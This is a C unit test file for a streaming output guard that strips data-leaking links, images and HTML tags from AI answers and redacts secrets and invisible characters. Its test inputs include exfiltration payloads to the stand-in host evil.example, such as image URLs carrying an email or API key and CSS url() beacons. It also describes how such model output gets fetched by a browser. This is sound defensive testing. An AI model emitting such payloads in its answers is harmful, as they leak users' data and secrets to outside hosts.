/*
 * The output guard: every case of tests/corpus/exfil/ (NAME.txt in,
 * NAME.out expected) one-shot, split in two at every byte, and fed one byte
 * at a time; random splits must equal one-shot; placeholders restored even
 * when split; secrets reported. CG_CORPUS_WRITE=1 (re)writes missing .out
 * files for review.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <glob.h>
#include <cmocka.h>

#include "guard/outguard.h"
#include "heapused.h"

#define CORPUS "tests/corpus/exfil"
#define OWN    "cg-own-secret-0123456789"

static cg_outguard_conf_t *conf;
static cg_pii_map_t        map;


static int
setup(void **state)
{
    static const char orig[] = "alice@example.com";

    (void) state;
    conf = cg_outguard_conf_new();
    assert_non_null(conf);
    assert_int_equal(cg_outguard_conf_allow_hosts(conf,
                     "docs.example.com, .trusted.org"), 0);
    cg_outguard_conf_max_urls(conf, 3);
    cg_outguard_conf_bare_urls(conf, 1);
    assert_int_equal(cg_outguard_conf_add_secret(conf, OWN, strlen(OWN)), 0);
    assert_int_equal(cg_outguard_conf_add_secret(conf, "short", 5), -1);
    cg_pii_map_init(&map);
    map.e = calloc(1, sizeof(*map.e));
    map.cap = map.n = 1;
    snprintf(map.e[0].ph, sizeof(map.e[0].ph), "[EMAIL_0a1b2c3d]");
    map.e[0].orig = strdup(orig);
    map.e[0].orig_len = strlen(orig);
    return 0;
}


static int
teardown(void **state)
{
    (void) state;
    cg_outguard_conf_free(conf);
    cg_pii_map_free(&map);
    return 0;
}


static char *
slurp(const char *path, size_t *n)
{
    FILE *f = fopen(path, "rb");
    char *p;
    long  len;

    if (f == NULL) {
        return NULL;
    }
    fseek(f, 0, SEEK_END);
    len = ftell(f);
    fseek(f, 0, SEEK_SET);
    p = malloc((size_t) len + 1);
    assert_non_null(p);
    assert_int_equal(fread(p, 1, (size_t) len, f), (size_t) len);
    p[len] = '\0';
    fclose(f);
    *n = (size_t) len;
    return p;
}


/* Feeds in[0..n) cut at the offsets in cuts[0..k), returns the output. */
static char *
guard_split(const char *in, size_t n, const size_t *cuts, size_t k,
            unsigned *ev, size_t *outlen)
{
    cg_outguard_t *g = cg_outguard_new(conf, &map);
    cg_buf_t       out;
    size_t         i, at = 0;
    char          *r;

    assert_non_null(g);
    cg_buf_init(&out);
    for (i = 0; i < k; i++) {
        assert_int_equal(cg_outguard_feed(g, in + at, cuts[i] - at, &out), 0);
        at = cuts[i];
    }
    assert_int_equal(cg_outguard_feed(g, in + at, n - at, &out), 0);
    assert_int_equal(cg_outguard_finish(g, &out), 0);
    if (ev) {
        *ev = cg_outguard_events(g);
    }
    cg_outguard_free(g);
    r = malloc(out.len + 1);
    assert_non_null(r);
    memcpy(r, out.data ? out.data : "", out.len);
    r[out.len] = '\0';
    *outlen = out.len;
    cg_buf_free(&out);
    return r;
}


static void
check_case(const char *txt)
{
    char    expf[512], *in, *exp, *one, *got;
    size_t  n, en, on, gn, i, cut[1], *all;

    snprintf(expf, sizeof(expf), "%.*s.out", (int) (strlen(txt) - 4), txt);
    in = slurp(txt, &n);
    assert_non_null(in);
    one = guard_split(in, n, NULL, 0, NULL, &on);
    exp = slurp(expf, &en);
    if (exp == NULL && getenv("CG_CORPUS_WRITE")) {
        FILE *f = fopen(expf, "wb");
        fwrite(one, 1, on, f);
        fclose(f);
        exp = slurp(expf, &en);
    }
    if (exp == NULL) {
        fail_msg("%s: no expected output", expf);
    }
    if (on != en || memcmp(one, exp, en) != 0) {
        fail_msg("%s: one-shot differs:\n got: %s\nwant: %s", txt, one, exp);
    }
    for (i = 0; i <= n; i++) {
        cut[0] = i;
        got = guard_split(in, n, cut, 1, NULL, &gn);
        if (gn != on || memcmp(got, one, on) != 0) {
            fail_msg("%s: split at %zu differs:\n got: %s\nwant: %s", txt, i,
                     got, one);
        }
        free(got);
    }
    all = malloc((n + 1) * sizeof(*all));
    for (i = 0; i < n; i++) {
        all[i] = i + 1;
    }
    got = guard_split(in, n, all, n, NULL, &gn);
    assert_memory_equal(got, one, on);
    assert_int_equal(gn, on);
    free(all);
    free(got);
    free(one);
    free(exp);
    free(in);
}


static void
test_corpus(void **state)
{
    glob_t  gl;
    size_t  i;

    (void) state;
    assert_int_equal(glob(CORPUS "/*.txt", 0, NULL, &gl), 0);
    assert_true(gl.gl_pathc >= 30);
    for (i = 0; i < gl.gl_pathc; i++) {
        check_case(gl.gl_pathv[i]);
    }
    globfree(&gl);
}


static char *
guard1(const char *in, unsigned *ev)
{
    size_t n;

    return guard_split(in, strlen(in), NULL, 0, ev, &n);
}


static void
test_events(void **state)
{
    unsigned ev;
    char    *o;

    (void) state;
    o = guard1("plain text, nothing to see", &ev);
    assert_string_equal(o, "plain text, nothing to see");
    assert_int_equal(ev, 0);
    free(o);
    o = guard1("k=" OWN, &ev);
    assert_string_equal(o, "k=[REDACTED]");
    assert_true(ev & CG_OG_EV_SECRET);
    free(o);
    o = guard1("![a](https://evil.example/)", &ev);
    assert_string_equal(o, "a");
    assert_true(ev & CG_OG_EV_URL);
    free(o);
    o = guard1("x\xe2\x80\x8by [EMAIL_0a1b2c3d]", &ev);
    assert_string_equal(o, "xy alice@example.com");
    assert_true(ev & CG_OG_EV_INVISIBLE);
    assert_true(ev & CG_OG_EV_RESTORED);
    free(o);
    /* Not a key: too short, or inside a longer word. */
    o = guard1("sk-short and task-force-members-of-the-team", &ev);
    assert_string_equal(o, "sk-short and task-force-members-of-the-team");
    assert_false(ev & CG_OG_EV_SECRET);
    free(o);
}


/* Bare URLs are checked by default: GFM, marked and linkify make them
 * links (issue 15). */
static void
test_bare_default_on(void **state)
{
    cg_outguard_conf_t *c = cg_outguard_conf_new();
    cg_outguard_t      *g = cg_outguard_new(c, NULL);
    cg_buf_t            out;
    const char         *in = "see https://evil.example/x and "
                             "![i](https://evil.example/y)";

    (void) state;
    cg_buf_init(&out);
    assert_int_equal(cg_outguard_feed(g, in, strlen(in), &out), 0);
    assert_int_equal(cg_outguard_finish(g, &out), 0);
    assert_string_equal(out.data, "see [link removed] and i");
    /* Reset makes it ready for another answer with fresh counters. */
    cg_outguard_reset(g, NULL);
    cg_buf_reset(&out);
    assert_int_equal(cg_outguard_feed(g, "[a](/b)", 7, &out), 0);
    assert_int_equal(cg_outguard_finish(g, &out), 0);
    assert_string_equal(out.data, "[a](/b)");
    assert_int_equal(cg_outguard_events(g), 0);
    cg_buf_free(&out);
    cg_outguard_free(g);
    cg_outguard_conf_free(c);
}


/* Long constructs: held back at most CG_OG_LOOKAHEAD bytes, then decided,
 * and still the same in one piece and in many. */
static void
test_lookahead(void **state)
{
    cg_outguard_t *g = cg_outguard_new(conf, &map);
    cg_buf_t       out, all;
    char          *big;
    size_t         n = 3 * CG_OG_LOOKAHEAD, i, on;
    char          *one;

    (void) state;
    big = malloc(n + 64);
    memcpy(big, "![x](https://evil.example/?d=", 29);
    memset(big + 29, 'A', n - 29);
    memcpy(big + n, ")", 2);
    n++;
    cg_buf_init(&out);
    cg_buf_init(&all);
    assert_int_equal(cg_outguard_feed(g, big, CG_OG_LOOKAHEAD + 100, &out), 0);
    assert_true(out.len > 0);           /* not held back forever */
    cg_buf_add(&all, out.data, out.len);
    cg_buf_reset(&out);
    assert_int_equal(cg_outguard_feed(g, big + CG_OG_LOOKAHEAD + 100,
                                      n - CG_OG_LOOKAHEAD - 100, &out), 0);
    assert_int_equal(cg_outguard_finish(g, &out), 0);
    cg_buf_add(&all, out.data, out.len);
    one = guard_split(big, n, NULL, 0, NULL, &on);
    assert_int_equal(all.len, on);
    assert_memory_equal(all.data, one, on);
    /* The renderer cannot make a link of it: no "](" survives. */
    assert_null(strstr(one, "]("));
    for (i = 0; i < 4; i++) {
        assert_true(one[i] != '\0');
    }
    free(one);
    free(big);
    cg_buf_free(&out);
    cg_buf_free(&all);
    cg_outguard_free(g);
}


/* One guard reused through resets gives what a fresh guard gives, whatever
 * the previous answer left in the bracket ring: a long answer (more than
 * the ring), a short one, then a longer one again, each with links,
 * unclosed '[' and escapes. */
static void
test_reset_reuse(void **state)
{
    static const char piece[] = "[a](https://evil.example/x) [b \\[c] [d](/e) ";
    size_t         lens[] = { 3 * CG_OG_LOOKAHEAD + 7, 40, 900, 5,
                              2 * CG_OG_LOOKAHEAD, 300 };
    cg_outguard_t *g = cg_outguard_new(conf, &map);
    cg_buf_t       out;
    char          *in, *one;
    size_t         i, k, on, n;

    (void) state;
    assert_non_null(g);
    cg_buf_init(&out);
    for (i = 0; i < sizeof(lens) / sizeof(lens[0]); i++) {
        n = lens[i];
        in = malloc(n + 1);
        assert_non_null(in);
        for (k = 0; k < n; k++) {
            in[k] = piece[(k * (i + 1)) % (sizeof(piece) - 1)];
        }
        in[n] = '\0';
        cg_outguard_reset(g, &map);
        cg_buf_reset(&out);
        assert_int_equal(cg_outguard_feed(g, in, n, &out), 0);
        assert_int_equal(cg_outguard_finish(g, &out), 0);
        one = guard_split(in, n, NULL, 0, NULL, &on);
        assert_int_equal(out.len, on);
        assert_memory_equal(out.data, one, on);
        free(one);
        free(in);
    }
    cg_buf_free(&out);
    cg_outguard_free(g);
}


/* Property: random inputs built from construct pieces, cut at random
 * places, give the one-shot result. */
static void
test_random_splits(void **state)
{
    static const char *piece[] = {
        "![", "[", "]", "(", ")", "https://evil.example/", "http://",
        "https://docs.example.com/", "<img src=", "<a href='", "'>", ">",
        "\"", " ", "\n", "sk-ant-api03-", "ABCDEFGHIJKLMNOP", OWN,
        "[EMAIL_0a1b2c3d]", "[EMAIL_", "0a1b", "\xe2\x80\x8b", "\x1b[3",
        "1m", "\x1b]8;;", "\x07", "\xf3\xa0\x81\x89", "data:", "x", "]:",
        "\\", "<https://", "javascript:", "\xc3\xa9", "\xff",
    };
    unsigned  seed = 12345;
    char      in[600], *one, *got;
    size_t    cuts[16], n, k, i, on, gn;
    int       round;

    (void) state;
    for (round = 0; round < 3000; round++) {
        n = 0;
        while (n < 400) {
            const char *p;
            seed = seed * 1103515245u + 12345u;
            p = piece[(seed >> 16) % (sizeof(piece) / sizeof(piece[0]))];
            if (n + strlen(p) >= sizeof(in)) {
                break;
            }
            memcpy(in + n, p, strlen(p));
            n += strlen(p);
            if (((seed >> 8) & 31) == 0) {
                break;
            }
        }
        seed = seed * 1103515245u + 12345u;
        k = (seed >> 16) % 16;
        for (i = 0; i < k; i++) {
            seed = seed * 1103515245u + 12345u;
            cuts[i] = (seed >> 16) % (n + 1);
        }
        for (i = 1; i < k; i++) {       /* sort the cuts */
            size_t j = i, v = cuts[i];
            while (j > 0 && cuts[j - 1] > v) {
                cuts[j] = cuts[j - 1];
                j--;
            }
            cuts[j] = v;
        }
        one = guard_split(in, n, NULL, 0, NULL, &on);
        got = guard_split(in, n, cuts, k, NULL, &gn);
        if (gn != on || memcmp(got, one, on) != 0) {
            fail_msg("round %d: streaming differs from one-shot:\n%.*s",
                     round, (int) n, in);
        }
        free(one);
        free(got);
    }
}


/* Issue 15: the two answers a headless Chromium really fetched from, and
 * variants, one-shot and a byte at a time; the key in encodings. */
static void
test_issue15(void **state)
{
    static const struct { const char *in, *out; } c[] = {
        { "[x](/rel ![i](https://evil.example/p.png?d=[EMAIL_0a1b2c3d]))",
          "[x] (/rel i)" },
        { "[x](/rel\n![i](//evil.example/p.png))", "[x] (/rel\ni)" },
        { "[x](</rel> 'x' ![i](\\\\evil.example/p))", "[x] (</rel> 'x' i)" },
        { "<img src=\" //evil.example/x\">", "" },
        { "<img src=\"\\\\evil.example/x\">", "" },
        { "<img src=\"/\\evil.example/x\">", "" },
        { "<img src=\"/\t/evil.example/x\">", "" },
        { "<iframe srcdoc=\"<img src=//evil.example/x>\">", "" },
        { "<video poster=\" //evil.example/x\">", "" },
        { "a<style>p{background:url(//evil.example/s)}</style>b", "a b" },
        { "<img src=\"https://docs.example.com/ok.png\">",
          "<img src=\"https://docs.example.com/ok.png\">" },
        { "[ok](https://docs.example.com/a \"t\")",
          "[ok](https://docs.example.com/a \"t\")" },
    };
    size_t   i, j, n, on, gn, cuts[600];
    char    *one, *got;
    unsigned ev;

    (void) state;
    for (i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
        n = strlen(c[i].in);
        one = guard_split(c[i].in, n, NULL, 0, NULL, &on);
        assert_string_equal(one, c[i].out);
        for (j = 0; j + 1 < n; j++) {
            cuts[j] = j + 1;
        }
        got = guard_split(c[i].in, n, cuts, n - 1, NULL, &gn);
        assert_string_equal(got, one);
        free(one);
        free(got);
    }
    /* base64 of the own key inside a larger blob, and hex: redacted and
     * reported, like the key itself. */
    one = guard_split("k=Y2ctb3duLXNlY3JldC0wMTIzNDU2Nzg5 "
                      "63672d6f776e2d7365637265742d30313233343536373839", 83,
                      NULL, 0, &ev, &on);
    assert_string_equal(one, "k=[REDACTED] [REDACTED]");
    assert_true(ev & CG_OG_EV_SECRET);
    free(one);
    /* A key inside a removed link still means the key reached the model. */
    one = guard_split("[a](https://evil.example/?k=" OWN ")",
                      strlen("[a](https://evil.example/?k=" OWN ")"), NULL, 0,
                      &ev, &on);
    assert_string_equal(one, "a");
    assert_true(ev & CG_OG_EV_SECRET);
    free(one);
}


/* Every stream in flight holds one guard: it costs a few kB, not the 82
 * kB bracket table of before, until its answer holds a '['; the table is
 * given back at reset, and the link is judged as ever. */
static void
test_guard_memory(void **state)
{
    static const char link[] = "see [x](https://evil.example/p) now";
    size_t            h0 = heap_used();
    cg_outguard_t    *g = cg_outguard_new(conf, &map);
    cg_buf_t          out;

    (void) state;
    cg_buf_init(&out);
    assert_true(heap_used() - h0 < 4096);
    assert_int_equal(cg_outguard_feed(g, link, strlen(link), &out), 0);
    assert_int_equal(cg_outguard_finish(g, &out), 0);
    cg_buf_add(&out, "", 1);
    assert_string_equal(out.data, "see x now");
    cg_buf_free(&out);
    cg_outguard_reset(g, &map);
    assert_true(heap_used() - h0 < 8192);
    cg_outguard_free(g);
}


int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_corpus),
        cmocka_unit_test(test_events),
        cmocka_unit_test(test_bare_default_on),
        cmocka_unit_test(test_lookahead),
        cmocka_unit_test(test_reset_reuse),
        cmocka_unit_test(test_random_splits),
        cmocka_unit_test(test_issue15),
        cmocka_unit_test(test_guard_memory),
    };

    return cmocka_run_group_tests(tests, setup, teardown);
}
